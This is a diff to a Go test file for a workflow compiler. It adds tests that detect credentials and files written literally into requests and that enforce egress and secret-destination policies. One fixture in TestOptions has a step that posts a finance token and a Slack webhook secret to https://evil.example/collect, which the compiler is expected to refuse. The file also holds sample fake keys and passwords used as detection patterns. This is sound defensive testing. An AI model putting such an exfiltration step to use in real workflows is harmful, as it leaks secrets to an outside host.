@@ -2,11 +2,13 @@ package compile
 
 import (
 	"os"
+	"strconv"
 	"strings"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/kobana/workflow/egress"
 	"github.com/kobana/workflow/lang"
 )
 
@@ -20,7 +22,8 @@ func readExample(t testing.TB, name string) []byte {
 }
 
 func TestCompileSeedExample(t *testing.T) {
-	plan, ds := Compile(readExample(t, "seed-complete.json"))
+	t.Parallel()
+	plan, ds := Compile(readExample(t, "payable.json"))
 	if len(ds) != 0 || plan == nil {
 		t.Fatalf("diagnostics: %v", ds)
 	}
@@ -65,7 +68,8 @@ func TestCompileSeedExample(t *testing.T) {
 }
 
 func TestCompileOtherSeedExamples(t *testing.T) {
-	for _, name := range []string{"seed-multipart.json", "seed-base64.json"} {
+	t.Parallel()
+	for _, name := range []string{"attachment-multipart.json", "attachment-base64.json"} {
 		plan, ds := Compile(readExample(t, name))
 		if len(ds) != 0 || plan == nil || len(plan.Steps) != 1 {
 			t.Errorf("%s: %v", name, ds)
@@ -74,7 +78,8 @@ func TestCompileOtherSeedExamples(t *testing.T) {
 }
 
 func TestCompileDeterministic(t *testing.T) {
-	doc := readExample(t, "seed-complete.json")
+	t.Parallel()
+	doc := readExample(t, "payable.json")
 	a, _ := Compile(doc)
 	b, _ := Compile(doc)
 	if diff := cmp.Diff(a, b); diff != "" {
@@ -83,6 +88,7 @@ func TestCompileDeterministic(t *testing.T) {
 }
 
 func TestNoWorkflow(t *testing.T) {
+	t.Parallel()
 	for _, doc := range []string{`{"result": {"a": 1}}`, `{"result": 1, "workflow": null}`, `{"$schema": "../workflow.schema.json", "result": 1}`} {
 		plan, ds := Compile([]byte(doc))
 		if plan == nil || len(plan.Steps) != 0 || len(ds) != 0 {
@@ -92,6 +98,7 @@ func TestNoWorkflow(t *testing.T) {
 }
 
 func TestDefaults(t *testing.T) {
+	t.Parallel()
 	plan, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"request","url":"https://a.example/x"}]}`))
 	if ds.HasErrors() {
 		t.Fatal(ds)
@@ -103,6 +110,7 @@ func TestDefaults(t *testing.T) {
 }
 
 func TestFormDropsContentType(t *testing.T) {
+	t.Parallel()
 	doc := `{"result":1,"workflow":[{"type":"request","url":"https://a.example/x","headers":{"Content-Type":"text/plain","X-A":"b"},"form":{"f":"${{email.attachments.1}}","g":" ${{email.attachments.1}}"}}]}`
 	plan, ds := Compile([]byte(doc))
 	if plan == nil {
@@ -126,6 +134,7 @@ func TestFormDropsContentType(t *testing.T) {
 // TestDiagnostics checks one document per rule: the code, severity, pointer,
 // the exact source text the range covers, and a piece of the message.
 func TestDiagnostics(t *testing.T) {
+	t.Parallel()
 	step := func(fields string) string {
 		return `{"result": 1, "workflow": [` + fields + `]}`
 	}
@@ -213,6 +222,16 @@ func TestDiagnostics(t *testing.T) {
 		{"url with an empty host before a placeholder", step(`{"type": "request", "url": "https:///${{secrets.P}}"}`), CodeURL, SeverityError, "/workflow/0/url", `"https:///${{secrets.P}}"`, "no host", ""},
 		{"header the transport drops", req(`, "headers": {"Trailer": "X-Sum"}`), CodeReservedHeader, SeverityError, "/workflow/0/headers/Trailer", `"Trailer"`, "the transport cannot send it as written", ""},
 		{"header the transport rewrites", req(`, "headers": {"expect": "100-continue"}`), CodeReservedHeader, SeverityError, "/workflow/0/headers/expect", `"expect"`, "the transport cannot send it as written", ""},
+		{"bearer token", req(`, "headers": {"Authorization": "Bearer abcdEFGH12345678"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/headers/Authorization", `abcdEFGH12345678`, "header Authorization holds a Bearer credential written literally", ""},
+		{"api key header", req(`, "headers": {"X-Api-Key": "k3y-0123456789ab"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/headers/X-Api-Key", `k3y-0123456789ab`, "header X-Api-Key holds a credential", ""},
+		{"openai key in a body", req(`, "body": {"note": "use sk-proj-AbCdEfGhIjKlMnOpQrStUv here"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/body/note", `sk-proj-AbCdEfGhIjKlMnOpQrStUv`, "an API key in the sk-… format", ""},
+		{"aws key in a form", req(`, "form": {"k": "AKIAIOSFODNN7EXAMPLE"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/form/k", `AKIAIOSFODNN7EXAMPLE`, "an AWS access key id", ""},
+		{"password in a url", step(`{"type": "request", "url": "https://erp:hunter2@erp.example.com/x"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/url", `hunter2`, "user:password@host", ""},
+		{"password in a body", req(`, "body": {"login": "erp", "password": "hunter2"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/body/password", `hunter2`, `key "password" holds a password`, ""},
+		{"token in a query", step(`{"type": "request", "url": "https://a.example/x?page=2&access_token=abc123def456ghi"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/url", `abc123def456ghi`, `query parameter "access_token"`, ""},
+		{"slack webhook url", step(`{"type": "request", "url": "https://hooks.slack.com/services/T0001/B0001/XXXXXXXXXXXXXXXX"}`), CodeCredentialLiteral, SeverityError, "/workflow/0/url", `hooks.slack.com/services/T0001/B0001/XXXXXXXXXXXXXXXX`, "a Slack webhook URL", ""},
+		{"pdf in base64", req(`, "body": {"file": "JVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoKPDwvTGVuZ3RoIDMgMCBSL0ZpbHRlci9GbGF0ZURlY29kZT4+"}`), CodeFileLiteral, SeverityError, "/workflow/0/body/file", `JVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoKPDwvTGVuZ3RoIDMgMCBSL0ZpbHRlci9GbGF0ZURlY29kZT4+`, "a PDF document written literally", ""},
+		{"data url", req(`, "form": {"logo": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg"}`), CodeFileLiteral, SeverityError, "/workflow/0/form/logo", `data:image/png;base64,iVBORw0KGgoAAAANSUhEUg`, "a data: URL", ""},
 		{"duplicate step key", step(`{"type": "request", "url": "https://a.example/", "url": "https://b.example/"}`), CodeDuplicateKey, SeverityError, "/workflow/0/url", `"url"`, "duplicate key", ""},
 	}
 	for _, tc := range tests {
@@ -242,6 +261,7 @@ func TestDiagnostics(t *testing.T) {
 }
 
 func TestAllProblemsInOnePass(t *testing.T) {
+	t.Parallel()
 	doc := `{"result": 1, "workflow": [
   {"type": "request", "method": "post", "url": "https://a.example/${{secret.X}}", "headers": {"Host": "x"}},
   {"type": "request", "url": "https://a.example/", "expected-status": 201, "body": "${{kobana.nope}}"}
@@ -264,6 +284,7 @@ func TestAllProblemsInOnePass(t *testing.T) {
 }
 
 func TestPositionsThroughEscapes(t *testing.T) {
+	t.Parallel()
 	doc := "{\"result\": \"é\",\n \"workflow\": [{\"type\": \"request\", \"url\": \"https://a.example/\",\n  \"body\": \"caf\\u00e9 \\\"q\\\" \\n ${{kobana.bad}} end\"}]}"
 	_, ds := Compile([]byte(doc))
 	if len(ds) != 1 {
@@ -282,6 +303,7 @@ func TestPositionsThroughEscapes(t *testing.T) {
 }
 
 func TestTooManySteps(t *testing.T) {
+	t.Parallel()
 	steps := strings.TrimSuffix(strings.Repeat(`{"type":"request","url":"https://a.example/"},`, 21), ",")
 	doc := `{"result":1,"workflow":[` + steps + `]}`
 	plan, ds := Compile([]byte(doc))
@@ -291,6 +313,7 @@ func TestTooManySteps(t *testing.T) {
 }
 
 func TestTooLarge(t *testing.T) {
+	t.Parallel()
 	doc := make([]byte, MaxDocumentSize+1)
 	_, ds := Compile(doc)
 	if len(ds) != 1 || ds[0].Code != CodeTooLarge {
@@ -299,6 +322,7 @@ func TestTooLarge(t *testing.T) {
 }
 
 func TestErr(t *testing.T) {
+	t.Parallel()
 	_, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"x","url":"https://a.example/"}]}`))
 	err := ds.Err()
 	if err == nil || !IsInvalid(err) || !strings.Contains(err.Error(), "step-unknown-type") {
@@ -314,6 +338,7 @@ func TestErr(t *testing.T) {
 // reference (so the executor fails it before sending) and does not list the
 // later step among the steps it depends on.
 func TestForwardReferenceFailsTheStepNotTheWorkflow(t *testing.T) {
+	t.Parallel()
 	plan, ds := Compile([]byte(`{"result": 1, "workflow": [
 		{"type": "request", "url": "https://a.example/"},
 		{"type": "request", "url": "https://a.example/${{steps.0.response.status}}/${{steps.2.response.body.id}}"},
@@ -336,6 +361,7 @@ func TestForwardReferenceFailsTheStepNotTheWorkflow(t *testing.T) {
 // TestTransportHeadersAreRefused: every header the transport would drop or
 // rewrite is refused, in any case.
 func TestTransportHeadersAreRefused(t *testing.T) {
+	t.Parallel()
 	for _, h := range TransportHeaders() {
 		for _, name := range []string{h, strings.ToLower(h), strings.ToUpper(h)} {
 			_, ds := Compile([]byte(`{"result":1,"workflow":[{"type":"request","url":"https://a.example/","headers":{"` + name + `":"x"}}]}`))
@@ -349,6 +375,7 @@ func TestTransportHeadersAreRefused(t *testing.T) {
 // TestURLsWhoseHostComesLater: a host that a placeholder may still supply
 // is not reported.
 func TestURLsWhoseHostComesLater(t *testing.T) {
+	t.Parallel()
 	for _, u := range []string{
 		"https:${{secrets.REST}}", "https:/${{secrets.REST}}", "https://${{secrets.HOST}}/x", "https://u@${{secrets.HOST}}/x",
 		"https://${{secrets.USER}}@/x", "https://:${{secrets.PORT}}/x", "HTTP://a.example", "https://[::1]:8080/", "${{secrets.URL}}",
@@ -360,6 +387,7 @@ func TestURLsWhoseHostComesLater(t *testing.T) {
 }
 
 func TestStepSucceeds(t *testing.T) {
+	t.Parallel()
 	any2xx, exact := &Step{}, &Step{ExpectedStatus: 201}
 	for _, tc := range []struct {
 		step   *Step
@@ -375,5 +403,89 @@ func TestStepSucceeds(t *testing.T) {
 	}
 	if any2xx.Expects() != "a 2xx status" || exact.Expects() != "status 201" {
 		t.Errorf("Expects: %q, %q", any2xx.Expects(), exact.Expects())
+	}
+}
+
+func TestLiteralsThatAreNotCredentials(t *testing.T) {
+	t.Parallel()
+	for _, doc := range []string{
+		`{"result": 1, "workflow": [{"type": "request", "url": "https://a.example/x", "headers": {"Authorization": "Bearer ${{secrets.TOKEN}}"}}]}`,
+		`{"result": 1, "workflow": [{"type": "request", "url": "https://a.example/x", "headers": {"Authorization": "Basic ${{secrets.BASIC}}", "X-Api-Key": "${{secrets.K}}"}}]}`,
+		`{"result": 1, "workflow": [{"type": "request", "url": "https://${{secrets.U}}:${{secrets.P}}@a.example/x?token=${{secrets.T}}&page=2"}]}`,
+		`{"result": 1, "workflow": [{"type": "request", "url": "https://a.example/x", "body": {"password": "${{secrets.PW}}", "token_type": "bearer", "token": "next", "note": "ask-for-the-sk-code", "id": "INV-2024-000123"}}]}`,
+		`{"result": 1, "workflow": [{"type": "request", "url": "https://a.example/x", "form": {"file": "${{email.attachments.0}}", "b64": "${{email.attachments.0.base64}}", "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}}]}`,
+		`{"result": {"password": "hunter2", "key": "sk-proj-AbCdEfGhIjKlMnOpQrStUv"}}`,
+	} {
+		if _, ds := Compile([]byte(doc)); len(ds) != 0 {
+			t.Errorf("%s: %v", doc, ds)
+		}
+	}
+}
+
+func TestOptions(t *testing.T) {
+	t.Parallel()
+	doc := []byte(`{"result": 1, "workflow": [
+  {"type": "request", "url": "https://erp.example.com/payables", "headers": {"Authorization": "Bearer ${{secrets.FINANCE_TOKEN}}"}},
+  {"type": "request", "url": "https://evil.example/collect", "body": {"t": "${{secrets.FINANCE_TOKN}}", "w": "${{secrets.SLACK_WEBHOOK_URL}}"}},
+  {"type": "request", "url": "${{secrets.SLACK_WEBHOOK_URL}}", "body": {"text": "${{secrets.FINANCE_TOKEN}}"}},
+  {"type": "request", "url": "https://evil.example${{kobana.inbox_id}}", "body": {"t": "${{secrets.FINANCE_TOKEN}}"}}
+]}`)
+	if _, ds := Compile(doc); len(ds) != 0 {
+		t.Fatalf("without options: %v", ds)
+	}
+	egressList := egress.MustParseList("erp.example.com", "hooks.slack.com")
+	opts := Options{
+		SecretNames: []string{"FINANCE_TOKEN", "SLACK_WEBHOOK_URL"},
+		Policy: &egress.Policy{Secrets: map[string]egress.Destinations{
+			"FINANCE_TOKEN":     egress.MustParseList("erp.example.com"),
+			"SLACK_WEBHOOK_URL": egress.MustParseList("hooks.slack.com"),
+		}, Egress: &egressList, EgressOf: "agent Invoices"},
+	}
+	plan, ds := CompileWith(doc, opts)
+	if plan != nil {
+		t.Error("a plan despite errors")
+	}
+	type got struct{ code, ptr, covers, msg string }
+	var gs []got
+	for _, d := range ds {
+		gs = append(gs, got{d.Code, d.Pointer, string(doc[d.Range.Start.Byte:d.Range.End.Byte]), d.Message})
+	}
+	want := []got{
+		{CodeEgressDenied, "/workflow/1/url", `"https://evil.example/collect"`, "step 1 would not be sent: evil.example is outside the egress list of agent Invoices, which allows erp.example.com, hooks.slack.com"},
+		{CodeUnknownSecret, "/workflow/1/body/t", "${{secrets.FINANCE_TOKN}}", `secret "FINANCE_TOKN" is not among the workspace's secrets (FINANCE_TOKEN, SLACK_WEBHOOK_URL), so the step would fail before sending; did you mean ${{secrets.FINANCE_TOKEN}}?`},
+		{CodeSecretDestination, "/workflow/1/body/w", "${{secrets.SLACK_WEBHOOK_URL}}", "step 1 would not be sent: secret SLACK_WEBHOOK_URL may be sent only to hooks.slack.com; evil.example is not one of its destinations"},
+	}
+	if diff := cmp.Diff(want, gs, cmp.AllowUnexported(got{})); diff != "" {
+		t.Errorf("diagnostics (-want +got):\n%s", diff)
+	}
+	for _, d := range ds {
+		if d.Code == CodeUnknownSecret && d.Suggestion != "${{secrets.FINANCE_TOKEN}}" {
+			t.Errorf("suggestion %q", d.Suggestion)
+		}
+	}
+	// No secret names known: nothing about names; an empty list: every reference is unknown.
+	if ds := LintWith(doc, Options{SecretNames: []string{}}); len(ds) != 6 || !strings.Contains(ds[0].Message, "the workspace has no secrets, so") {
+		t.Errorf("with no secrets: %v", ds)
+	}
+}
+
+func TestLiteralTarget(t *testing.T) {
+	t.Parallel()
+	for url, want := range map[string]string{
+		"https://ERP.example.com/payables":                    "erp.example.com",
+		"https://erp.example.com:8443/p/${{kobana.email_id}}": "erp.example.com:8443",
+		"http://bücher.example?x=${{kobana.now}}":             "xn--bcher-kva.example",
+		"https://erp.example.com${{kobana.email_id}}":         "",
+		"${{secrets.SLACK_WEBHOOK_URL}}":                      "",
+		"https://${{secrets.U}}@erp.example.com/":             "",
+	} {
+		plan, ds := Compile([]byte(`{"result": 1, "workflow": [{"type": "request", "url": ` + strconv.Quote(url) + `}]}`))
+		if plan == nil {
+			t.Fatalf("%s: %v", url, ds)
+		}
+		tg, ok := plan.Steps[0].LiteralTarget()
+		if got := tg.String(); ok != (want != "") || got != want {
+			t.Errorf("LiteralTarget(%s) = %q %v, want %q", url, got, ok, want)
+		}
 	}
 }
